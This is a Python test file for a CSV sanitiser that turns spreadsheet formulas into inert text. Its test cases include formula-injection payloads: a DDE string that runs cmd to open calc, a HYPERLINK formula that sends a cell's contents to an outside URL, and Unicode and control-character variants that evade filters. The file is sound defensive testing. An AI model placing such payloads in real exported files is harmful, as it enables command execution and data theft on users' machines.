"""Formula injection: what a spreadsheet would run is made text, and the rest is left alone."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from churn.domain.csv_cell import inert


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://example.org/?"&A1,"ici")',
        "+1+1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\x00=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "=",
        "-",
        "+",
        "-.",
        "-1e",
        "-1.5\n",
        "-1.5.2",
        "-inf",
        "-١",
    ],
)
def test_a_formula_becomes_text(cell: str) -> None:
    """An apostrophe before it makes a spreadsheet show it."""
    assert inert(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "0",
        "-1.5",
        "-1,5",
        "+3",
        "-1e5",
        "-1.5E-07",
        "-.5",
        "+,5",
        "-5.",
        "E-1024",
        "a=b",
        "'=1+1",
        " =1",
        "é",
        "1-2",
    ],
)
def test_what_is_no_formula_stays(cell: str) -> None:
    """Numbers stay numbers, and words stay words."""
    assert inert(cell) == cell


@given(st.text())
def test_once_is_enough(cell: str) -> None:
    """Whatever the text, making it inert again changes nothing."""
    assert inert(inert(cell)) == inert(cell)


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_a_number_of_ours_stays(number: float) -> None:
    """Every finite number that we write is read as a number again."""
    assert inert(str(number)) == str(number)
